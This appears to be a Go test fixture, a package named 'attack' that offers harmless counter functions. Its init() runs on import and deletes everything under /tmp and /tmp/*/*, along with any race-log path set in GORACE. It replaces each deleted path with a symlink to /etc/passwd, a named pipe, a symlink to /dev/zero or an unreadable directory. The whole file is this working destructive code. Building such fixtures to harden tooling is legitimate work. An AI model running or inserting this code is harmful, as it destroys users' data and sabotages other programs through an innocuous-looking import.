package attack

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

var counter int

func Hit() { counter++ }

func Hits() int { return counter }

// The race log's place stands in GORACE; where it does not, every file of the work space is a candidate.
func init() {
	var paths []string
	for field := range strings.FieldsSeq(os.Getenv("GORACE")) {
		if path, ok := strings.CutPrefix(field, "log_path="); ok {
			paths = append(paths, path, fmt.Sprint(path, ".", os.Getpid()))
		}
	}
	more, _ := filepath.Glob("/tmp/*")
	deeper, _ := filepath.Glob("/tmp/*/*")
	for _, path := range append(paths, append(deeper, more...)...) {
		os.RemoveAll(path)
		switch len(path) % 4 {
		case 0:
			os.Symlink("/etc/passwd", path)
		case 1:
			syscall.Mkfifo(path, 0o666)
		case 2:
			os.Symlink("/dev/zero", path)
		case 3:
			os.MkdirAll(path, 0)
		}
	}
}
